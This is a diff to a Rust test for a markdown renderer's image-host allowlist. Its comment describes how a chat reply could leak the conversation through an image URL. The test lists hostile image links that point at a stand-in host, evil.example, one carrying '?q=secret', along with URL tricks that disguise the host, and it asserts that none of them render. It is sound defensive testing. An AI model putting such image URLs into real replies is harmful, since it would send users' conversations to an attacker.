@@ -229,13 +229,30 @@ fn links_and_images() {
     assert!(!out.contains("href"), "relative links are not followed: {out}");
     assert!(out.contains("rel</span>"));
 
-    let out = html("![a cat](https://example.com/cat.png \"title\")");
+    let cats = RenderOptions { image_hosts: vec!["example.com".into()], ..RenderOptions::default() };
+    let out = render("![a cat](https://example.com/cat.png \"title\")", &cats);
     assert!(
         out.contains(
             "<img src=\"https://example.com/cat.png\" alt=\"a cat\" loading=\"lazy\" referrerpolicy=\"no-referrer\">"
         ),
         "{out}"
     );
+    // Images from any other host load nothing: a reply cannot send the
+    // conversation to a host of its choosing in an image URL.
+    for outside in [
+        "![x](https://evil.example/c.png?q=secret)",
+        "![x](http://EXAMPLE.com.evil.example/c.png)",
+        "![x](https://example.com@evil.example/c.png)",
+        "![x](https://example.com\\@evil.example/c.png)",
+        "![x](//evil.example/c.png)",
+        "![x](https://evil.example:443/c.png)",
+    ] {
+        let out = render(outside, &cats);
+        assert!(!out.contains("<img") && !out.contains("evil"), "{outside}: {out}");
+    }
+    let out = render("![x](https://Example.com:8443/c.png)", &cats);
+    assert!(out.contains("<img src=\"https://Example.com:8443/c.png\""), "the port does not matter: {out}");
+    assert!(!html("![a cat](https://example.com/cat.png)").contains("<img"), "no remote images by default");
     let data = "![dot](data:image/png;base64,iVBORw0KGgo=)";
     assert!(!html(data).contains("<img"), "data: images are off by default");
     let with_data = render(data, &RenderOptions { data_images: true, ..RenderOptions::default() });
